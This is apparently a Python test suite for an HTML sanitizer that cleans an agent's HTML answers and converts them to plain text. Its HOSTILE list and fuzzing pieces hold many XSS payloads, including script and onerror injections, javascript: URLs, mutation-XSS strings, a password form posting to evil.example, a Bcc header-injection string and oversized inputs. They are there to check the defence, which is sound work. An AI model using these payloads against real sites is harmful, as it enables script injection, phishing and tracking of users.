"""The HTML of an agent's answer: what hostile markup becomes, and that the plain text says what the HTML says."""

from __future__ import annotations

import html
import re
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import html5lib
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from schemas.safe_html import TAGS, clean, from_text, images, to_text
from tests.support.each import each

ATTRIBUTES = {"href", "rel", "src", "alt", "width", "height", "start", "colspan", "rowspan", "dir"}
HOSTILE = [
    "<script>alert(1)</script>ok",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://track.example/p.gif?ann' width=1 height=1>",
    "<img src='//track.example/p.gif'>",
    "<img src='cid:1' onload=alert(1) srcset='https://track.example/a 2x' style='background:url(https://t.example)'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>click</a>",
    "<a href=' \x01javascript:alert(1)'>click</a>",
    "<a href='java\tscript:alert(1)'>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<a href='vbscript:msgbox(1)'>click</a>",
    "<a href='file:///etc/passwd'>click</a>",
    "<a href='/relative'>click</a>",
    "<a href='https://user:secret@bank.example@evil.example/'>click</a>",
    "<a href='https://x.example' target=_blank ping='https://track.example' style='position:fixed;top:0;left:0'>click</a>",
    "<base href='https://evil.example/'><a href='pay'>pay</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import url(https://evil.example/x.css); p{display:none}</style><p>text</p>",
    "<p style='display:none'>hidden words</p>",
    "<p style='background-image:url(https://t.example/x)'>words</p>",
    "<div style=\"behavior:url(x.htc);width:expression(alert(1))\">words</div>",
    "<font color=white>white words</font>",
    "<p hidden>words</p>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>words</iframe>",
    "<object data='https://evil.example/x.swf'><param name=x></object><embed src='https://evil.example'>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<video src='https://t.example/v.mp4' autoplay poster='https://t.example/p.png'></video><audio src='https://t.example/a'>",
    "<table background='https://t.example/b.png'><tr><td background='https://t.example/c.png'>cell</table>",
    "<!--[if mso]><v:rect xmlns:v='urn' ><v:fill src='https://t.example/x' /></v:rect><![endif]-->words",
    "<!-- hidden --><p>words</p><![CDATA[ <script>alert(1)</script> ]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<p id=top name=x class=y data-x=1 onclick=alert(1)>words</p>",
    "<a href='https://x.example/\r\nBcc: hidden@evil.example'>click</a>",
    "<img src=cid:1 alt='x\" onerror=\"alert(1)'>",
    "<img src='cid:1&quot; onerror=&quot;alert(1)'>",
    "<img src='cid:../../etc/passwd'><img src='cid:99999999999999999999'><img src='cid:-1'><img src=' cid:1'>",
    "<p>a\x00b\x0bc\x1bd\x85e\u2028f</p>",
    "<p>safe \u202egpj.exe\u202c</p>",
    "</body></html><script>alert(1)</script>",
    "<" * 5000 + "p>",
    "<b>" * 3000 + "deep",
]  # fmt: skip


class Seen(HTMLParser):
    """What a parser of another kind sees in markup."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.others: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(markup: str) -> None:
    seen = Seen(markup)
    assert seen.tags <= TAGS
    assert not seen.others
    for tag, name, value in seen.attributes:
        assert name in ATTRIBUTES
        if name == "href":
            assert re.fullmatch(r"(?:https?://|mailto:|tel:)[^\s\x00-\x20\x7f]+", value), value
        if name == "src":
            assert tag == "img"
            assert re.fullmatch(r"cid:[1-9][0-9]{0,2}", value), value
    tree = html5lib.parse(f"<!DOCTYPE html><body>{markup}", namespaceHTMLElements=False)
    found = {element.tag for element in tree.iter() if isinstance(element.tag, str)}
    assert found <= TAGS | {"html", "head", "body", "tbody"}


@each("markup", HOSTILE)
def test_hostile_markup_becomes_harmless_and_stays_as_it_is(markup: str) -> None:
    cleaned = clean(markup)
    assert_harmless(cleaned)
    assert clean(cleaned) == cleaned


PIECES = st.sampled_from(
    ["<p>", "</p>", "<b>", "</b>", "<div>", "</div>", "<ul>", "<li>", "</ul>", "<ol start=3>", "</ol>", "<table>", "<tr>", "<td>",
     "</table>", "<blockquote>", "</blockquote>", "<pre>", "</pre>", "<br>", "<hr>", "<a href='https://x.example/a?b=1&c=2'>", "</a>",
     "<a href=javascript:x>", "<img src=cid:1 alt=photo>", "<img src=http://t.example alt='remote one'>", "<script>", "</script>",
     "<style>", "</style>", "<svg>", "</svg>", "<math>", "<!--", "-->", "<![CDATA[", "]]>", "<title>", "</title>", "<select>",
     "<option>", "<form>", "<noscript>", "<p style='display:none'>", "<span hidden>", "<h1>", "</h1>", "&lt;", "&amp;", "&nbsp;", "&#x202e;",
     "\"", "'", ">", "<", "=", "\x00", "\n", "\t", " ", "words", "Grüße", "日本語", "🙂", "é", "\u202e", "\u200b"]
)  # fmt: skip


@given(st.lists(PIECES | st.text(max_size=8), max_size=40).map("".join))
@example("<table><a href=https://x.example><tr><td>")
@example("<p><div>")
def test_whatever_is_written_becomes_harmless(markup: str) -> None:
    cleaned = clean(markup)
    assert_harmless(cleaned)
    assert clean(cleaned) == cleaned


def words_in(text: str) -> list[str]:
    return re.findall(r"\w+", text)


def seen_in(element: Any) -> Iterator[str]:
    """The words of a page in the order in which they are read, images by their words."""
    yield f"[{element.get('alt') or 'image'}]" if element.tag == "img" else element.text or ""
    for child in element:
        yield from seen_in(child)
        yield child.tail or ""


def words_of_html(markup: str) -> list[str]:
    """The same by another parser."""
    tree = html5lib.parse(f"<!DOCTYPE html><body>{markup}", namespaceHTMLElements=False)
    return words_in(" ".join(seen_in(tree.find("body"))))


@given(st.lists(PIECES | st.text("abc äß日本 \n<>&\"'-", max_size=8), max_size=30).map("".join))
def test_the_text_has_the_words_of_the_html_in_their_order(markup: str) -> None:
    cleaned = clean(markup)
    text = to_text(re.sub(r' href="[^"]*"', "", cleaned))
    numbers = re.compile(r"(?m)^((?:> )*)\s*[0-9]+\. ")
    assert "".join(words_in(numbers.sub(r"\1", text))) == "".join(words_of_html(cleaned))


@given(st.text(max_size=300))
@example("a\r\nb\rc\n\n\nd")
@example("a\n\n>\n\n> >")
@example("  two  spaces\tand a tab ")
@example('> quoted\n-- \nsignature <b> & "x"')
def test_a_text_written_as_html_is_read_as_the_same_text(text: str) -> None:
    written = from_text(text)
    assert_harmless(written)
    unseen = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\ufffe\uffff]")
    shown = unseen.sub(" ", text.encode("utf-8", "replace").decode())
    assert to_text(written).split() == shown.split()


READ = [
    ("<p>Hello Ann,</p><p>here it is.<br>Mei</p>", "Hello Ann,\n\nhere it is.\nMei"),
    ("<div>one</div><div>two</div>", "one\ntwo"),
    ("<div>one</div><div><br></div><div>two</div>", "one\n\ntwo"),
    ("See <a href='https://shop.example/r?a=1&amp;b=2'>returns</a>.", "See returns (https://shop.example/r?a=1&b=2)."),
    ("<a href='https://shop.example/'>https://shop.example/</a>", "https://shop.example/"),
    ("<a href='https://shop.example'>shop.example</a>", "shop.example"),
    ("<a href='https://evil.example'>https://bank.example</a>", "https://bank.example (https://evil.example)"),
    ("<a href='mailto:help@shop.example'>help@shop.example</a>", "help@shop.example"),
    ("<a href='tel:+15550100'>call us</a>", "call us (+15550100)"),
    ("<ul><li>one</li><li>two<ul><li>deep</li></ul></li></ul>", "- one\n- two\n  - deep"),
    ("<ol><li>one</li><li>two</li></ol>", "1. one\n2. two"),
    ("<ol start=3><li>three</li></ol>", "3. three"),
    ("<blockquote><p>your words</p></blockquote><p>mine</p>", "> your words\n\nmine"),
    ("<blockquote>a</blockquote><blockquote>b</blockquote>", "> a\n\n> b"),
    ("<blockquote>a<blockquote>b</blockquote></blockquote>", "> a\n>\n> > b"),
    ("<table><tr><th>Size</th><td>42</td></tr><tr><th>Colour</th><td>red</td></tr></table>", "Size\t42\nColour\tred"),
    ("<pre>a  b\n  c</pre>", "a  b\n  c"),
    ("one   two\n three", "one two three"),
    ("<p>Photo: <img src='cid:2' alt='the label'></p>", "Photo: [the label]"),
    ("<p>Photo: <img src='cid:2'></p>", "Photo: [image]"),
    ("<p><img src='https://track.example/p.gif' alt='the label'></p>", "the label"),
    ("<img src='https://track.example/p.gif'>ok", "ok"),
    ("<p>1 &lt; 2 &amp;&amp; 3 &gt; 2 &amp;lt;</p>", "1 < 2 && 3 > 2 &lt;"),
    ("<p>お問い合わせ<br>ありがとう</p><p>田中</p>", "お問い合わせ\nありがとう\n\n田中"),
    ("<h2>Returns</h2><p>Print it.</p><hr><p>Mei</p>", "Returns\n\nPrint it.\n\n---\n\nMei"),
    ("<p>Tom&nbsp;&nbsp;Jones</p>", "Tom  Jones"),
    ("<p>bold <b>and</b> <i>italic</i>, <code>code</code></p>", "bold and italic, code"),
    ("<script>alert(1)</script><style>p{}</style><title>t</title>", ""),
    ("<p>a</p><p></p><p>&nbsp;</p><p>b</p>", "a\n\nb"),
]  # fmt: skip


@pytest.mark.parametrize(("markup", "text"), READ, ids=range(len(READ)))
def test_the_plain_text_reads_as_the_page_does(markup: str, text: str) -> None:
    assert to_text(clean(markup)) == text


def test_the_images_of_a_page_are_known_by_the_number_of_their_attachment() -> None:
    assert images(
        clean("<img src='cid:2' alt=a><img src='cid:1'><img src='cid:2'><img src='cid:0'><p>src=\"cid:7\"</p>")
    ) == [2, 1, 2]


def test_an_attack_by_size_is_quick() -> None:
    for markup in (
        "<a href=x>" * 30_000,
        "&" * 100_000,
        "<" * 100_000,
        "<b " + "a=1 " * 25_000 + ">",
        "<div>" * 20_000,
        "<table>" * 14_000,
    ):
        cleaned = clean(markup)
        assert_harmless(cleaned) if len(cleaned) < 10_000 else None
        to_text(cleaned)


def test_formatting_that_is_never_closed_costs_little() -> None:
    began = time.process_time()
    for attribute in ("a={}", "a='>{}'", 'a="<{}"', "a='{}"):
        for closing in ("</x>", "</p>", "<!--</b>-->"):
            clean("".join(f"<b {attribute.format(number)}>{closing}<p></p>" for number in range(3000)))
    assert time.process_time() - began < 5, "seconds of CPU"
    assert clean("<b title='a>b' id=x>two</b><B/x>three</B><i\tx=1>four</i>") == "<b>two</b><b>three</b><i>four</i>"


def test_entities_are_decoded_as_a_browser_does() -> None:
    assert to_text(clean("&eacute;&#233;&#xe9; &copy;")) == html.unescape("&eacute;&#233;&#xe9; &copy;")


def test_a_link_without_an_address_is_its_words() -> None:
    assert (
        to_text('<a name="top">Our offer</a> and <a href="https://x.example/">more</a>')
        == "Our offer and more (https://x.example/)"
    )
